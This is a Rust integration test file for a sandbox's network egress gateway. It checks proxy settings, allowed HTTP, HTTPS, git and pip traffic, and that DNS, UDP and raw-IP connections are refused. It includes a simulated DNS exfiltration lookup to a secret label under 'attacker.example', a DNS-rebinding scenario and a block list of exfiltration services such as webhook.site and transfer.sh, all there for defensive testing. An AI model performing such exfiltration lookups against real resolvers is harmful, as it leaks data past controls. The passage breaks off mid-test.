@@ -1,0 +1,1166 @@
+//! Layer 2, black-box: the egress gateway. Real programs (curl, git, pip, python sockets, a static
+//! C binary) in a real sandbox talk to servers this test starts on the host's loopback; the
+//! test asserts what got through, what was refused (quickly, with an event), and that DNS never
+//! leaves the machine. Every test runs twice: as root and as an unprivileged user.
+//!
+//! Traffic goes only to loopback servers started here (`fixtures/net/netfix.py`, bound to
+//! 127.0.0.1), to the sandbox's own addresses, or to addresses the gateway must refuse without
+//! sending anything (TEST-NET 192.0.2.0/24). Nothing external is ever contacted.
+
+mod common;
+
+use std::collections::hash_map::RandomState;
+use std::hash::{BuildHasher, Hasher};
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex, mpsc};
+use std::time::{Duration, Instant};
+
+use common::{Env, show};
+use serde_json::Value;
+
+const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/net");
+const NETCLIENT: &str = include_str!("fixtures/net/netclient.py");
+const TCPC: &str = include_str!("fixtures/net/tcpc.c");
+/// Debian's python: the unprivileged user cannot run root's pyenv shims.
+const PY: &str = "/usr/bin/python3";
+const PROXY: &str = "http://127.0.0.1:3128";
+const NO_PROXY: &str = "localhost,127.0.0.1,::1";
+/// Prefix for a line that must not see any proxy variable.
+const UNPROXIED: &str =
+    "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy";
+
+// ---- helpers ----------------------------------------------------------------------------------
+
+/// Unprivileged users need /dev/net/tun 0666 (as a distro ships it); make it so when root.
+fn tun_ready() {
+    static ONCE: std::sync::Once = std::sync::Once::new();
+    ONCE.call_once(|| {
+        let p = Path::new("/dev/net/tun");
+        let Ok(m) = std::fs::metadata(p) else { return };
+        if m.permissions().mode() & 0o777 != 0o666 {
+            let _ = std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o666));
+        }
+    });
+}
+
+/// Writes the in-sandbox client into the project as `nc.py`.
+fn setup(env: &Env) {
+    tun_ready();
+    env.write("nc.py", NETCLIENT);
+}
+
+/// `timeout 30 python3 nc.py ARGS` (one JSON line on stdout).
+fn nc(args: &str) -> String {
+    format!("timeout 30 {PY} nc.py {args}")
+}
+
+fn have(cmd: &str) -> bool {
+    Command::new("sh")
+        .arg("-c")
+        .arg(format!("command -v {cmd} >/dev/null 2>&1"))
+        .status()
+        .is_ok_and(|s| s.success())
+}
+
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+fn random_label() -> String {
+    let mut s = String::new();
+    while s.len() < 48 {
+        let mut h = RandomState::new().build_hasher();
+        h.write_u128(
+            std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .unwrap()
+                .as_nanos(),
+        );
+        h.write_u32(std::process::id());
+        s.push_str(&format!("{:016x}", h.finish()));
+    }
+    s.truncate(48);
+    s
+}
+
+/// The synthetic range the gateway answers from: 198.18.0.0/15.
+fn is_fake(ip: &str) -> bool {
+    ip.parse::<Ipv4Addr>()
+        .is_ok_and(|a| a.octets()[0] == 198 && (a.octets()[1] & 0xfe) == 18)
+}
+
+/// Writes a policy file outside the project (so it needs no `cordon trust`); returns its path.
+fn policy(env: &Env, text: &str) -> String {
+    static N: AtomicUsize = AtomicUsize::new(0);
+    let p = env
+        .base
+        .join(format!("net{}.toml", N.fetch_add(1, Ordering::Relaxed)));
+    std::fs::write(&p, text).unwrap();
+    env.own(&p);
+    p.to_str().unwrap().to_string()
+}
+
+/// `[dns] hosts` mapping every name to the host's 127.0.0.1, plus one allow rule per
+/// (name, ports).
+fn named(hosts: &[&str], allow: &[(&str, &[u16])], extra: &str) -> String {
+    let mut t = String::new();
+    for (host, ports) in allow {
+        let ports: Vec<String> = ports.iter().map(u16::to_string).collect();
+        t.push_str(&format!(
+            "[[network.allow]]\nhost = \"{host}\"\nports = [{}]\n",
+            ports.join(", ")
+        ));
+    }
+    t.push_str("[dns]\n");
+    if !hosts.is_empty() {
+        let h: Vec<String> = hosts
+            .iter()
+            .map(|h| format!("\"{h}\" = \"127.0.0.1\""))
+            .collect();
+        t.push_str(&format!("hosts = {{ {} }}\n", h.join(", ")));
+    }
+    t.push_str(extra);
+    t
+}
+
+/// `cordon run --no-tty --audit … --policy FILE -- sh -c SCRIPT`, killed after `limit`.
+fn spawn_run(env: &Env, policy_file: &str, script: &str) -> Child {
+    let _ = std::fs::remove_file(&env.audit);
+    env.cordon()
+        .arg("run")
+        .arg("--no-tty")
+        .arg("--audit")
+        .arg(&env.audit)
+        .args(["--policy", policy_file])
+        .arg("--")
+        .args(["sh", "-c", script])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap()
+}
+
+fn wait_limited(child: Child, limit: Duration) -> Output {
+    let (done, deadline) = mpsc::channel::<()>();
+    let pid = child.id();
+    std::thread::spawn(move || {
+        if deadline.recv_timeout(limit).is_err() {
+            let _ = Command::new("kill").arg("-9").arg(pid.to_string()).status();
+        }
+    });
+    let o = child.wait_with_output().unwrap();
+    let _ = done.send(());
+    o
+}
+
+fn run_limited(env: &Env, policy_text: &str, script: &str, limit: Duration) -> Output {
+    let p = policy(env, policy_text);
+    wait_limited(spawn_run(env, &p, script), limit)
+}
+
+fn run(env: &Env, policy_text: &str, script: &str) -> Output {
+    run_limited(env, policy_text, script, Duration::from_secs(120))
+}
+
+/// The JSON lines the script printed (nc.py results), in order.
+fn results(o: &Output) -> Vec<Value> {
+    String::from_utf8_lossy(&o.stdout)
+        .lines()
+        .filter(|l| l.starts_with('{'))
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON {l:?}: {e}")))
+        .collect()
+}
+
+/// The `N` results of a script that must exit 0.
+fn ok_results(o: &Output, n: usize) -> Vec<Value> {
+    assert_eq!(o.status.code(), Some(0), "{}", show(o));
+    let r = results(o);
+    assert_eq!(r.len(), n, "expected {n} results\n{}", show(o));
+    r
+}
+
+fn assert_refused_fast(r: &Value, what: &str, o: &Output) {
+    let res = r["result"].as_str().unwrap_or("?");
+    assert!(
+        matches!(res, "refused" | "reset" | "unreachable"),
+        "{what}: expected an immediate refusal, got {r}\n{}",
+        show(o)
+    );
+    let ms = r["ms"].as_u64().unwrap_or(u64::MAX);
+    assert!(ms < 5000, "{what}: refusal took {ms} ms\n{}", show(o));
+}
+
+fn assert_connected(r: &Value, reply: &str, what: &str, o: &Output) {
+    assert_eq!(r["result"], "connected", "{what}: {r}\n{}", show(o));
+    assert_eq!(r["reply"], reply, "{what}: {r}\n{}", show(o));
+}
+
+// ---- events ----
+
+fn events(env: &Env) -> Vec<Value> {
+    std::fs::read_to_string(&env.audit)
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+fn dstr<'a>(e: &'a Value, k: &str) -> Option<&'a str> {
+    e["detail"][k].as_str()
+}
+
+fn du64(e: &Value, k: &str) -> Option<u64> {
+    let v = &e["detail"][k];
+    v.as_u64().or_else(|| v.as_str()?.parse().ok())
+}
+
+/// A network event with this action and port whose `host` or `addr` is `who` (any, if `None`).
+fn net_event<'a>(evs: &'a [Value], action: &str, who: Option<&str>, port: u64) -> Vec<&'a Value> {
+    evs.iter()
+        .filter(|e| e["layer"] == "network" && e["action"] == action)
+        .filter(|e| du64(e, "port") == Some(port))
+        .filter(|e| {
+            who.is_none_or(|w| {
+                dstr(e, "host") == Some(w)
+                    || dstr(e, "addr").is_some_and(|a| a == w || a.starts_with(&format!("{w}:")))
+            })
+        })
+        .collect()
+}
+
+fn net_log(evs: &[Value]) -> String {
+    evs.iter()
+        .filter(|e| e["layer"] == "network" || e["layer"] == "dns")
+        .map(|e| e.to_string())
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn assert_deny_event(env: &Env, who: Option<&str>, port: u16) {
+    let evs = events(env);
+    let found = net_event(&evs, "deny", who, port.into());
+    assert!(
+        !found.is_empty(),
+        "no network deny event for {who:?} port {port}; network/dns events:\n{}",
+        net_log(&evs)
+    );
+    assert!(
+        found
+            .iter()
+            .all(|e| e["rule"].as_str().is_some_and(|r| !r.is_empty())),
+        "a deny event without a rule: {found:?}"
+    );
+}
+
+// ---- host-side servers ----
+
+/// A fixture server (`netfix.py`) on the host's 127.0.0.1; killed on drop.
+struct Server {
+    child: Child,
+    port: u16,
+    /// What followed the port on the READY line (the stream server's sha256).
+    extra: String,
+    lines: Arc<Mutex<Vec<String>>>,
+}
+
+impl Server {
+    fn start(args: &[&str]) -> Server {
+        let mut child = Command::new(PY)
+            .arg("-u")
+            .arg(format!("{FIXTURES}/netfix.py"))
+            .args(args)
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .expect("start netfix.py");
+        let stdout = child.stdout.take().unwrap();
+        let lines = Arc::new(Mutex::new(Vec::new()));
+        let (tx, rx) = mpsc::channel();
+        let seen = lines.clone();
+        std::thread::spawn(move || {
+            let mut tx = Some(tx);
+            for line in BufReader::new(stdout).lines() {
+                let Ok(line) = line else { break };
+                if line.starts_with("READY ")
+                    && let Some(tx) = tx.take()
+                {
+                    let _ = tx.send(line);
+                    continue;
+                }
+                seen.lock().unwrap().push(line);
+            }
+        });
+        let ready = rx
+            .recv_timeout(Duration::from_secs(90))
+            .unwrap_or_else(|_| panic!("netfix.py {args:?} never became ready"));
+        let mut f = ready.split_whitespace().skip(1);
+        let port = f.next().unwrap().parse().unwrap();
+        let extra = f.collect::<Vec<_>>().join(" ");
+        Server {
+            child,
+            port,
+            extra,
+            lines,
+        }
+    }
+
+    fn http(dir: &Path) -> Server {
+        Server::start(&["http", dir.to_str().unwrap()])
+    }
+
+    fn echo() -> Server {
+        Server::start(&["echo"])
+    }
+
+    /// Lines starting with `prefix` seen so far (after a short settle).
+    fn count(&self, prefix: &str) -> usize {
+        std::thread::sleep(Duration::from_millis(300));
+        self.lines
+            .lock()
+            .unwrap()
+            .iter()
+            .filter(|l| l.starts_with(prefix))
+            .count()
+    }
+
+    fn log(&self) -> String {
+        self.lines.lock().unwrap().join("\n")
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A directory under the test's base holding `hello.txt` = `body`.
+fn www(env: &Env, name: &str, body: &str) -> std::path::PathBuf {
+    let d = env.base.join(name);
+    std::fs::create_dir_all(&d).unwrap();
+    std::fs::write(d.join("hello.txt"), body).unwrap();
+    d
+}
+
+/// Control after a "nothing arrived" check: the listener was alive, so the zero meant something.
+fn assert_echo_alive(srv: &Server) {
+    let mut s = TcpStream::connect(("127.0.0.1", srv.port)).expect("echo server alive");
+    s.write_all(b"x").unwrap();
+    s.shutdown(std::net::Shutdown::Write).unwrap();
+    let mut b = String::new();
+    s.read_to_string(&mut b).unwrap();
+    assert_eq!(b, "x");
+}
+
+fn sh(dir: &Path, script: &str) -> bool {
+    let o = Command::new("sh")
+        .arg("-c")
+        .arg(script)
+        .current_dir(dir)
+        .output()
+        .unwrap();
+    if !o.status.success() {
+        eprintln!("{script}\n{}", show(&o));
+    }
+    o.status.success()
+}
+
+// ---- the sandbox's view ---------------------------------------------------------------------
+
+both!(proxy_env_and_resolver_point_at_the_gateway, |env: Env| {
+    setup(&env);
+    let o = run(
+        &env,
+        "",
+        "echo \"$http_proxy|$HTTP_PROXY|$https_proxy|$HTTPS_PROXY|$all_proxy|$ALL_PROXY\"; \
+         echo \"$no_proxy|$NO_PROXY\"; grep '^nameserver' /etc/resolv.conf; \
+         awk -F: 'NR > 2 { gsub(/ /, \"\", $1); print $1 }' /proc/net/dev | sort | tr '\\n' ' '",
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", show(&o));
+    let out = String::from_utf8_lossy(&o.stdout);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 4, "{}", show(&o));
+    assert_eq!(lines[0], [PROXY; 6].join("|"), "{}", show(&o));
+    assert_eq!(lines[1], format!("{NO_PROXY}|{NO_PROXY}"), "{}", show(&o));
+    assert_eq!(lines[2], "nameserver 127.0.0.1", "{}", show(&o));
+    // The sandbox has its own network namespace: loopback plus the gateway's device, none of
+    // the host's interfaces.
+    let ifaces: Vec<&str> = lines[3].split_whitespace().collect();
+    assert!(ifaces.contains(&"lo"), "{ifaces:?}");
+    assert_eq!(
+        ifaces.len(),
+        2,
+        "expected lo + the gateway's tun: {ifaces:?}"
+    );
+});
+
+// ---- 1. plain HTTP by name, with and without the proxy ----------------------------------------
+
+both!(http_by_name_with_and_without_proxy, |env: Env| {
+    setup(&env);
+    let srv = Server::http(&www(&env, "www", "hello-from-host-http"));
+    let p = srv.port;
+    let url = format!("http://api.example.test:{p}/hello.txt");
+    let pol = named(&["api.example.test"], &[("api.example.test", &[p])], "");
+    let mut script = vec![
+        nc(&format!("get {url}")),
+        nc(&format!("get {url} --noproxy")),
+        format!("{UNPROXIED} {}", nc(&format!("get {url}"))),
+    ];
+    let mut requests = 3;
+    let curl = have("curl");
+    if curl {
+        script.push(format!("echo CURL $(curl -sS --max-time 10 {url})"));
+        script.push(format!(
+            "echo CURL $(curl -sS --max-time 10 -x {PROXY} {url})"
+        ));
+        script.push(format!(
+            "echo CURL $({UNPROXIED} curl -sS --max-time 10 --noproxy '*' {url})"
+        ));
+        requests += 3;
+    } else {
+        eprintln!("skipped: the curl part (no curl here)");
+    }
+    let o = run(&env, &pol, &script.join("\n"));
+    let r = ok_results(&o, 3);
+    for (i, x) in r.iter().enumerate() {
+        assert_eq!(x["status"], 200, "request {i}: {x}\n{}", show(&o));
+        assert_eq!(
+            x["body"],
+            "hello-from-host-http",
+            "request {i}\n{}",
+            show(&o)
+        );
+    }
+    if curl {
+        let out = String::from_utf8_lossy(&o.stdout);
+        let n = out
+            .lines()
+            .filter(|l| *l == "CURL hello-from-host-http")
+            .count();
+        assert_eq!(n, 3, "{}", show(&o));
+    }
+    assert_eq!(srv.count("REQ GET /hello.txt"), requests, "{}", srv.log());
+});
+
+// ---- 2. HTTPS: curl and git clone against a local CA -------------------------------------------
+
+/// A CA and a server certificate for `name` under `dir` (ca.pem, srv.pem, srv.key).
+fn make_tls(dir: &Path, name: &str) -> bool {
+    std::fs::create_dir_all(dir).unwrap();
+    std::fs::write(
+        dir.join("ext.cnf"),
+        format!(
+            "subjectAltName=DNS:{name}\nbasicConstraints=CA:FALSE\n\
+             keyUsage=critical,digitalSignature\nextendedKeyUsage=serverAuth\n"
+        ),
+    )
+    .unwrap();
+    sh(
+        dir,
+        &format!(
+            "set -e; \
+             openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
+               -keyout ca.key -out ca.pem -days 2 -subj /CN=cordon-test-ca \
+               -addext basicConstraints=critical,CA:TRUE \
+               -addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null; \
+             openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
+               -keyout srv.key -out srv.csr -subj /CN={name} 2>/dev/null; \
+             openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial \
+               -out srv.pem -days 2 -extfile ext.cnf 2>/dev/null"
+        ),
+    )
+}
+
+/// A bare repository `repo.git` under `dir` with one commit (README = "repo-content"), ready for
+/// git's dumb HTTP protocol.
+fn make_repo(dir: &Path) -> bool {
+    sh(
+        dir,
+        "set -e; git -c init.defaultBranch=main init -q work; cd work; \
+         echo repo-content > README; git add README; \
+         git -c user.name=t -c user.email=t@example.invalid commit -qm one; cd ..; \
+         git clone -q --bare work repo.git; git -C repo.git update-server-info; rm -rf work",
+    )
+}
+
+both!(https_curl_and_git_clone, |env: Env| {
+    if !have("openssl") || !have("git") {
+        eprintln!("skipped: needs openssl and git");
+        return;
+    }
+    setup(&env);
+    let name = "git.example.test";
+    let tls = env.base.join("tls");
+    assert!(make_tls(&tls, name), "openssl failed");
+    let root = www(&env, "tlswww", "hello-over-tls");
+    assert!(make_repo(&root), "git repo setup failed");
+    let srv = Server::start(&[
+        "http",
+        root.to_str().unwrap(),
+        "--tls",
+        tls.join("srv.pem").to_str().unwrap(),
+        tls.join("srv.key").to_str().unwrap(),
+    ]);
+    env.write(
+        "ca.pem",
+        &std::fs::read_to_string(tls.join("ca.pem")).unwrap(),
+    );
+    let p = srv.port;
+    let pol = named(&[name], &[(name, &[p])], "");
+    let base = format!("https://{name}:{p}");
+    let mut script = vec![
+        "export GIT_SSL_CAINFO=\"$PWD/ca.pem\" GIT_TERMINAL_PROMPT=0".to_string(),
+        format!("timeout 30 git clone -q {base}/repo.git c1 && echo GIT $(cat c1/README)"),
+        format!(
+            "{UNPROXIED} timeout 30 git clone -q {base}/repo.git c2 && echo GIT $(cat c2/README)"
+        ),
+    ];
+    let curl = have("curl");
+    if curl {
+        script.push(format!(
+            "echo CURL $(curl -sS --max-time 10 --cacert ca.pem {base}/hello.txt)"
+        ));
+        script.push(format!(
+            "echo CURL $({UNPROXIED} curl -sS --max-time 10 --cacert ca.pem {base}/hello.txt)"
+        ));
+    } else {
+        eprintln!("skipped: the curl part (no curl here)");
+    }
+    let o = run(&env, &pol, &script.join("\n"));
+    let out = String::from_utf8_lossy(&o.stdout);
+    let n = |l: &str| out.lines().filter(|x| *x == l).count();
+    assert_eq!(n("GIT repo-content"), 2, "{}", show(&o));
+    if curl {
+        assert_eq!(n("CURL hello-over-tls"), 2, "{}", show(&o));
+    }
+    assert!(srv.count("REQ GET /repo.git/HEAD") >= 2, "{}", srv.log());
+});
+
+// ---- 3. pip download from a local index -------------------------------------------------------
+
+both!(pip_download_from_a_local_index, |env: Env| {
+    let pip_ok = Command::new(PY)
+        .args(["-m", "pip", "--version"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !pip_ok {
+        eprintln!("skipped: no pip for {PY}");
+        return;
+    }
+    setup(&env);
+    let root = env.base.join("pypi");
+    let o = Command::new(PY)
+        .arg(format!("{FIXTURES}/netfix.py"))
+        .args(["wheel", root.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", show(&o));
+    let wheel = String::from_utf8_lossy(&o.stdout).trim().to_string();
+    let srv = Server::http(&root);
+    let name = "pypi.example.test";
+    let pol = named(&[name], &[(name, &[srv.port])], "");
+    let pip = format!(
+        "timeout 60 {PY} -m pip download --no-deps --no-cache-dir --disable-pip-version-check \
+         --no-input --timeout 10 --retries 0 --trusted-host {name} \
+         --index-url http://{name}:{}/simple/ cordonprobe",
+        srv.port
+    );
+    let o = run(
+        &env,
+        &pol,
+        &format!("{pip} -d dl1 >&2 && ls dl1 && {UNPROXIED} {pip} -d dl2 >&2 && ls dl2"),
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", show(&o));
+    assert_eq!(
+        String::from_utf8_lossy(&o.stdout),
+        format!("{wheel}\n{wheel}\n"),
+        "{}",
+        show(&o)
+    );
+    for d in ["dl1", "dl2"] {
+        assert!(env.project.join(d).join(&wheel).exists(), "{d}/{wheel}");
+    }
+    assert!(
+        srv.count(&format!("REQ GET /files/{wheel}")) >= 2,
+        "{}",
+        srv.log()
+    );
+});
+
+// ---- 4. DNS: answered locally, never asked upstream; blocklist ---------------------------------
+
+both!(dns_never_leaks_and_blocklist_is_nxdomain, |env: Env| {
+    setup(&env);
+    let upstream = Server::start(&["dns"]);
+    let web = Server::http(&www(&env, "www", "via-upstream"));
+    let secret = random_label();
+    let leak = format!("{secret}.attacker.example");
+    let pol = format!(
+        "[[network.allow]]\nhost = \"up.example.test\"\nports = [{}]\n\
+         [dns]\nupstream = \"127.0.0.1:{}\"\nblock = [\"*.evil-tunnel.test\"]\n",
+        web.port, upstream.port
+    );
+    let script = [
+        format!("echo GETENT $(getent ahostsv4 {leak} | head -n1)"),
+        format!("echo PYRES $({PY} -c 'import socket; print(socket.gethostbyname(\"{leak}\"))')"),
+        nc(&format!("dns {leak} A")),
+        nc(&format!("dns {leak} AAAA")),
+        nc("dns webhook.site A"),
+        nc("dns x.y.ngrok-free.app A"),
+        nc("dns transfer.sh A"),
+        nc("dns a.evil-tunnel.test A"),
+        "getent ahostsv4 webhook.site >/dev/null 2>&1; echo BLOCKED $?".to_string(),
+        // Control: a connection to an allowed name does use the configured upstream.
+        nc(&format!(
+            "get http://up.example.test:{}/hello.txt --noproxy",
+            web.port
+        )),
+    ]
+    .join("\n");
+    let o = run(&env, &pol, &script);
+    let r = ok_results(&o, 7);
+    let out = String::from_utf8_lossy(&o.stdout);
+    let field = |tag: &str| {
+        out.lines()
+            .find_map(|l| l.strip_prefix(&format!("{tag} ")))
+            .unwrap_or("")
+            .split_whitespace()
+            .next()
+            .unwrap_or("")
+            .to_string()
+    };
+    let via_getent = field("GETENT");
+    assert!(is_fake(&via_getent), "getent: {via_getent:?}\n{}", show(&o));
+    assert_eq!(
+        field("PYRES"),
+        via_getent,
+        "same name, same address\n{}",
+        show(&o)
+    );
+    assert_eq!(r[0]["rcode"], 0, "{}", show(&o));
+    assert_eq!(r[0]["answers"][0], via_getent.as_str(), "{}", show(&o));
+    assert_eq!(r[1]["rcode"], 0, "AAAA is an empty answer\n{}", show(&o));
+    assert_eq!(r[1]["answers"], serde_json::json!([]), "{}", show(&o));
+    for (i, n) in [
+        (2, "webhook.site"),
+        (3, "x.y.ngrok-free.app"),
+        (4, "transfer.sh"),
+        (5, "a.evil-tunnel.test"),
+    ] {
+        assert_eq!(
+            r[i]["rcode"],
+            3,
+            "{n} must be NXDOMAIN: {}\n{}",
+            r[i],
+            show(&o)
+        );
+    }
+    assert_ne!(field("BLOCKED"), "0", "{}", show(&o));
+    assert_eq!(r[6]["body"], "via-upstream", "{}", show(&o));
+
+    let seen = upstream.log();
+    assert!(
+        !seen.contains(&secret),
+        "the random name reached the upstream resolver:\n{seen}"
+    );
+    for n in [
+        "webhook.site",
+        "ngrok-free.app",
+        "transfer.sh",
+        "evil-tunnel",
+    ] {
+        assert!(!seen.contains(n), "{n} reached upstream:\n{seen}");
+    }
+    assert!(
+        seen.contains("QUERY up.example.test"),
+        "the host-side lookup did not use [dns] upstream:\n{seen}"
+    );
+    // The answers were logged too.
+    let evs = events(&env);
+    assert!(
+        evs.iter().any(|e| e["layer"] == "dns"
+            && dstr(e, "name").is_some_and(|n| n.trim_end_matches('.') == leak)),
+        "no dns event for {leak}:\n{}",
+        net_log(&evs)
+    );
+});
+
+// ---- 5. refusals: fast, each with an event ---------------------------------------------------
+
+both!(raw_ip_connects_are_refused_fast, |env: Env| {
+    setup(&env);
+    let script = [
+        nc("connect 192.0.2.1 80"),
+        nc("connect 192.0.2.1 9999"),
+        // In the fake range but never handed out by the resolver.
+        nc("connect 198.19.200.200 8080"),
+    ]
+    .join("\n");
+    let o = run(&env, "", &script);
+    let r = ok_results(&o, 3);
+    assert_refused_fast(&r[0], "192.0.2.1:80", &o);
+    assert_refused_fast(&r[1], "192.0.2.1:9999", &o);
+    assert_refused_fast(&r[2], "198.19.200.200:8080", &o);
+    assert_deny_event(&env, Some("192.0.2.1"), 80);
+    assert_deny_event(&env, Some("192.0.2.1"), 9999);
+    assert_deny_event(&env, None, 8080);
+});
+
+both!(host_loopback_is_not_reachable_by_address, |env: Env| {
+    setup(&env);
+    let echo = Server::echo();
+    let upstream = Server::start(&["dns"]); // answers 127.0.0.1 to everything: a rebinding attack
+    let p = echo.port;
+    let pol = format!(
+        "[[network.allow]]\nhost = \"*.rebind.test\"\nports = [{p}]\n\
+         [dns]\nupstream = \"127.0.0.1:{}\"\n",
+        upstream.port
+    );
+    let script = [
+        // 127.0.0.1 inside is the sandbox's own loopback, where nothing listens.
+        nc(&format!("connect 127.0.0.1 {p} hi")),
+        // A wildcard rule never vouches for a private answer.
+        nc(&format!("connect a.rebind.test {p} hi")),
+    ]
+    .join("\n");
+    let o = run(&env, &pol, &script);
+    let r = ok_results(&o, 2);
+    assert_ne!(r[0]["result"], "connected", "{}", show(&o));
+    assert_refused_fast(&r[1], "a.rebind.test -> 127.0.0.1", &o);
+    assert_deny_event(&env, Some("a.rebind.test"), p);
+    assert_eq!(echo.count("CONN"), 0, "reached the host's loopback");
+    assert_echo_alive(&echo);
+});
+
+both!(smtp_and_irc_ports_are_refused, |env: Env| {
+    setup(&env);
+    let echo = Server::echo();
+    let name = "mail.example.test";
+    let pol = named(&[name], &[(name, &[echo.port])], "");
+    let script = [
+        nc(&format!("connect {name} {} ping", echo.port)),
+        nc(&format!("connect {name} 25")),
+        nc(&format!("connect {name} 6667")),
+    ]
+    .join("\n");
+    let o = run(&env, &pol, &script);
+    let r = ok_results(&o, 3);
+    assert_connected(&r[0], "ping", "the allowed port (control)", &o);
+    assert_refused_fast(&r[1], "port 25", &o);
+    assert_refused_fast(&r[2], "port 6667", &o);
+    assert_deny_event(&env, Some(name), 25);
+    assert_deny_event(&env, Some(name), 6667);
+    let evs = events(&env);
+    assert!(
+        net_event(&evs, "allow", Some(name), 25).is_empty()
+            && net_event(&evs, "allow", Some(name), 6667).is_empty(),
+        "{}",
+        net_log(&evs)
+    );
+});
+
+both!(ssh_to_an_unlisted_host_is_refused, |env: Env| {
+    setup(&env);
+    let upstream = Server::start(&["dns"]);
+    let pol = format!("[dns]\nupstream = \"127.0.0.1:{}\"\n", upstream.port);
+    let o = run(&env, &pol, &nc("connect ssh.unlisted.test 22"));
+    let r = ok_results(&o, 1);
+    assert_refused_fast(&r[0], "ssh.unlisted.test:22", &o);
+    assert_deny_event(&env, Some("ssh.unlisted.test"), 22);
+    // Denied before any host-side lookup.
+    assert_eq!(upstream.count("QUERY"), 0, "{}", upstream.log());
+});
+
+both!(udp_to_a_listener_is_dropped, |env: Env| {
+    setup(&env);
+    let udp = Server::start(&["udp"]);
+    let name = "udp.example.test";
+    // Even a rule naming the port: it allows TCP, UDP other than DNS never passes.
+    let pol = named(&[name], &[(name, &[udp.port])], "");
+    let t0 = Instant::now();
+    let o = run(
+        &env,
+        &pol,
+        &format!("{}\nsleep 0.5", nc(&format!("udp {name} {} 5", udp.port))),
+    );
+    let r = ok_results(&o, 1);
+    assert!(t0.elapsed() < Duration::from_secs(30), "{}", show(&o));
+    assert!(is_fake(r[0]["addr"].as_str().unwrap_or("")), "{}", show(&o));
+    assert_eq!(
+        udp.count("DGRAM"),
+        0,
+        "datagrams got through:\n{}",
+        udp.log()
+    );
+    assert_deny_event(&env, None, udp.port);
+    // Control: the listener was there.
+    UdpSocket::bind("127.0.0.1:0")
+        .unwrap()
+        .send_to(b"control", ("127.0.0.1", udp.port))
+        .unwrap();
+    assert_eq!(udp.count("DGRAM"), 1, "{}", udp.log());
+});
+
+// ---- 6. host.cordon.internal ----------------------------------------------------------------
+
+both!(host_alias_needs_a_rule, |env: Env| {
+    setup(&env);
+    let srv = Server::http(&www(&env, "www", "hello-host-alias"));
+    let p = srv.port;
+    let alias = "host.cordon.internal";
+    let url = format!("http://{alias}:{p}/hello.txt");
+
+    let o = run(&env, "", &nc(&format!("connect {alias} {p}")));
+    let r = ok_results(&o, 1);
+    assert_refused_fast(&r[0], "host alias without a rule", &o);
+    assert_deny_event(&env, Some(alias), p);
+    assert_eq!(srv.count("REQ"), 0, "{}", srv.log());
+
+    let pol = format!("[[network.allow]]\nhost = \"{alias}\"\nports = [{p}]\n");
+    let o = run(
+        &env,
+        &pol,
+        &[
+            nc(&format!("get {url} --noproxy")),
+            nc(&format!("get {url}")),
+        ]
+        .join("\n"),
+    );
+    let r = ok_results(&o, 2);
+    assert_eq!(r[0]["body"], "hello-host-alias", "{}", show(&o));
+    assert_eq!(
+        r[1]["body"],
+        "hello-host-alias",
+        "via the proxy\n{}",
+        show(&o)
+    );
+    assert_eq!(srv.count("REQ GET /hello.txt"), 2, "{}", srv.log());
+    // The rule is for that port only.
+    let o = run(&env, &pol, &nc(&format!("connect {alias} {}", free_port())));
+    assert_refused_fast(&ok_results(&o, 1)[0], "host alias, another port", &o);
+});
+
+// ---- 7. programs that ignore the proxy env ---------------------------------------------------
+
+both!(programs_ignoring_proxy_env_are_covered, |env: Env| {
+    setup(&env);
+    let echo = Server::echo();
+    let p = echo.port;
+    let pol = named(
+        &["echo.example.test", "other.example.test"],
+        &[("echo.example.test", &[p])],
+        "",
+    );
+    let mut script = vec![
+        format!("env -i {PY} nc.py connect echo.example.test {p} raw-python"),
+        format!("env -i {PY} nc.py connect other.example.test {p} raw-python"),
+    ];
+    // A static binary (like a Go one): its own libc, no proxy env, only getaddrinfo + connect.
+    let tcpc = env.base.join("tcpc.c");
+    std::fs::write(&tcpc, TCPC).unwrap();
+    let bin = env.project.join("tcpc");
+    let static_ok = have("gcc")
+        && Command::new("gcc")
+            .args(["-static", "-O1", "-o"])
+            .arg(&bin)
+            .arg(&tcpc)
+            .output()
+            .is_ok_and(|o| o.status.success());
+    if static_ok {
+        env.own(&bin);
+        script.push(format!(
+            "env -i ./tcpc echo.example.test {p} static-hello; echo STATIC $?"
+        ));
+        script.push(format!(
+            "env -i ./tcpc other.example.test {p} x; echo STATIC $?"
+        ));
+    } else {
+        eprintln!("skipped: the static binary part (no gcc -static here)");
+    }
+    let o = run(&env, &pol, &script.join("\n"));
+    let r = ok_results(&o, 2);
+    assert_connected(&r[0], "raw-python", "python, no proxy env", &o);
+    assert!(is_fake(r[0]["addr"].as_str().unwrap_or("")), "{}", show(&o));
+    assert_refused_fast(&r[1], "python to a name without a rule", &o);
